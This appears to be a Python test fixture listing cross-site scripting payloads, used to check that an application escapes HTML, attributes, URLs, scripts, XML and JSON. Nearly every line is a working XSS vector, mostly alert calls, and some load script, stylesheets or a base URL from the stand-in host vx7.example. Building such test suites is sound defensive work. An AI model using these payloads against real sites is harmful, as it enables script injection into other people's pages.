"""Texts that become a script where they are not escaped or cleaned, in HTML, attributes, addresses, scripts, XML, JSON and in
the attributes that the desk's own scripts read. Each calls alert, or carries the mark in what it would make."""

MARK = "vx7"
VECTORS = """
<script>alert("vx7")</script>
<script src=//vx7.example/x.js></script>
"><script>alert(`vx7`)</script>
'><script>alert("vx7")</script>
</script><script>alert("vx7")</script>
</title><script>alert("vx7")</script>
</textarea><script>alert("vx7")</script>
</style><script>alert("vx7")</script>
--><script>alert("vx7")</script>
]]><script>alert("vx7")</script>
<ScRiPt>alert("vx7")</sCrIpT>
<script/x>alert("vx7")</script>
<scr<script>ipt>alert("vx7")</scr</script>ipt>
<script\t>alert("vx7")</script >
<<script>alert("vx7");//<</script>
<script type=module>alert("vx7")</script>
<img src=x onerror=alert("vx7")>
<img src=x onerror="alert('vx7')"//
<img/src=x/onerror=alert("vx7")>
"><img src=x onerror=alert("vx7")>
'"><img src=x onerror=alert("vx7")>
<img src="x` `<script>alert('vx7')</script>"` `>
<img src=javascript:alert("vx7")>
<img srcset=x onerror=alert("vx7")>
<image href=x onerror=alert("vx7")>
<svg onload=alert("vx7")>
<svg/onload=alert("vx7")//
<svg><script>alert("vx7")</script></svg>
<svg><animate onbegin=alert("vx7") attributeName=x dur=1s>
<svg><set attributeName=onmouseover to=alert("vx7")>
<svg><a xlink:href="javascript:alert('vx7')"><text y=9>vx7</text></a></svg>
<svg><foreignObject><iframe onload=alert("vx7")></foreignObject></svg>
<svg><style><img src=x onerror=alert("vx7")></style></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert("vx7")>
<math href="javascript:alert('vx7')">vx7</math>
<body onload=alert("vx7")>
<body onpageshow=alert("vx7")>
<iframe src="javascript:alert('vx7')"></iframe>
<iframe srcdoc="<script>alert('vx7')</script>"></iframe>
<object data="javascript:alert('vx7')"></object>
<object data="data:text/html,<script>alert('vx7')</script>">
<embed src="javascript:alert('vx7')">
<a href="javascript:alert('vx7')">vx7</a>
<a href="JaVaScRiPt:alert('vx7')">vx7</a>
<a href="java&#9;script:alert('vx7')">vx7</a>
<a href=" &#1;javascript:alert('vx7')">vx7</a>
<a href="data:text/html,<script>alert('vx7')</script>">vx7</a>
<a href="vbscript:alert('vx7')">vx7</a>
<a href=x onclick=alert("vx7") autofocus onfocus=alert("vx7")>vx7</a>
<form action="javascript:alert('vx7')"><button>vx7</button></form>
<button formaction="javascript:alert('vx7')">vx7</button>
<input autofocus onfocus=alert("vx7")>
" autofocus onfocus=alert("vx7") x="
' autofocus onfocus=alert("vx7") x='
" onmouseover="alert('vx7')" style="position:fixed;inset:0
<select autofocus onfocus=alert("vx7")>
<details open ontoggle=alert("vx7")>
<video><source onerror=alert("vx7")></video>
<audio src=x onerror=alert("vx7")>
<marquee onstart=alert("vx7")>vx7</marquee>
<div style="width:expression(alert('vx7'))">
<div style="background:url(javascript:alert('vx7'))">
<style>@import'//vx7.example/x.css';</style>
<link rel=stylesheet href=//vx7.example/x.css>
<link rel=import href="data:text/html,<script>alert('vx7')</script>">
<meta http-equiv=refresh content="0;url=javascript:alert('vx7')">
<base href="//vx7.example/">
<noscript><p title="</noscript><img src=x onerror=alert('vx7')>">
<template><script>alert("vx7")</script></template>
<x onclick=alert("vx7") tabindex=1 onfocus=alert("vx7") id=x>
<div x-data="{}" x-init="alert('vx7')"></div>
<div x-data x-html="'<img src=x onerror=alert(`vx7`)>'"></div>
<div hx-get="//vx7.example/" hx-trigger="load"></div>
<div hx-on:load="alert('vx7')" data-hx-on:load="alert('vx7')"></div>
{{constructor.constructor("alert('vx7')")()}}
{% debug %}${alert("vx7")}<%= 7*7 %>
";alert("vx7");//
';alert("vx7");//
\\";alert("vx7");//
javascript:alert("vx7")
javascript://%0aalert("vx7")
data:text/html;base64,PHNjcmlwdD5hbGVydCgidng3Iik8L3NjcmlwdD4=
&lt;script&gt;alert("vx7")&lt;/script&gt;
&#60;script&#62;alert("vx7")&#60;/script&#62;
\\u003cscript\\u003ealert("vx7")\\u003c/script\\u003e
%3Cscript%3Ealert("vx7")%3C/script%3E
＜script＞alert("vx7")＜/script＞
<!--><script>alert("vx7")</script>-->
<!DOCTYPE x [<!ENTITY y "vx7">]>&y;
<?xml version="1.0"?><?xml-stylesheet href="javascript:alert('vx7')"?>
<![CDATA[<script>alert("vx7")</script>]]>
<plaintext>vx7
""".strip().splitlines()
# For fields of a few characters.
VECTORS += [
    "<svg onload=alert()>",
    '"onclick=alert() x="',
    "'onclick=alert() x='",
    "<script>alert()//",
    "<img src onerror=a()>",
    "<a href=//vx7>",
]

# Those of which nothing comes in a page that escapes nothing: they are for what cleans, decodes or fills in a text once more.
FOR_OTHERS = (
    "<scr<script>",
    "<img/src=",
    '<img src="x` `',
    "<svg><set ",
    "{",
    "\\",
    "&",
    "%3C",
    "＜",
    "<!DOCTYPE",
    "<?xml",
    "<![CDATA[",
    "<a href=//vx7>",
)
